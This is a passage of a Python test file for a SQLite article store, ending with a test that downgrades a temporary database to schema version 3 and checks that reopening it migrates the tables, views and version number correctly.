        assert proc.returncode == 0, out + err
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert store.scalar("SELECT status FROM article_texts") == "extracted"
    assert store.scalar("SELECT COUNT(*) FROM articles") == 2


def test_schema_3_store_is_upgraded(tmp_path):
    db = tmp_path / "old.db"
    open_store(f"sqlite:///{db}", datetime.utcnow()).dispose()
    con = sqlite3.connect(db)
    con.executescript("DROP TABLE article_version_sources; DROP TABLE article_texts; DROP VIEW v_articles;"
                      "UPDATE meta SET value = '3' WHERE key = 'schema_version';"
                      "UPDATE meta SET value = 'old' WHERE key = 'views_hash';")
    con.close()
    open_store(f"sqlite:///{db}", datetime.utcnow()).dispose()
    con = sqlite3.connect(db)
    cols = [r[1] for r in con.execute("PRAGMA table_info(v_articles)")]
    assert cols[-4:] == ["event_id", "text_source", "full_text", "thin"]
    assert con.execute("SELECT value FROM meta WHERE key = 'schema_version'").fetchone() == (str(SCHEMA_VERSION),)
    assert re.search("article_texts", " ".join(r[0] for r in con.execute(
        "SELECT name FROM sqlite_master WHERE type = 'table'")))
    con.close()
